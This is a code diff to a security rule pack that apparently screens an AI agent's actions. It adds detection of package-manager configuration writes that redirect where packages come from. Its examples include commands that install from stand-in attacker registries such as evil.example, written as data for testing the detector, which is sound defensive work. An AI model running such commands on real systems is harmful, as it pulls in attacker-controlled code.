@@ -247,9 +247,15 @@ export const OWASP: PackRule[] = [
           "*sources --add*",
         ],
       },
+      // the registry set in a package manager's configuration file (`pip config set global.extra-index-url …`, an edited pip.conf)
+      { op: ["write"], pathLike: ["*/pip.conf", "*/pip.ini"], contentLike: ["*index-url*", "*trusted-host*", "*find-links*"] },
     ],
-    ["npm install x --registry http://evil.example", "pip install --extra-index-url http://evil x"],
-    ["npm install x", "npm config get registry"],
+    [
+      "npm install x --registry http://evil.example",
+      "pip install --extra-index-url http://evil x",
+      "pip config set global.extra-index-url https://x.io/simple",
+    ],
+    ["npm install x", "npm config get registry", "pip config set global.timeout 60"],
   ),
   r(
     "asi04-global-install",
